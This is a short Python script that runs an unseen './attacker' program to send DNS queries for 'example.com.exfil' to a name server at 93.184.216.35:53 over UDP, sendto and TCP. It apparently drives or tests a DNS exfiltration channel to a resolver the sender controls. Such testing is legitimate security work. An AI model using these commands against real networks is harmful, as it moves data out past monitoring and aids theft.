"""The question goes to a name server of the asker's own."""
import subprocess

for way in ("udp", "sendto", "tcp"):
    subprocess.run(["./attacker", "ask", way, "example.com.exfil", "93.184.216.35:53"])
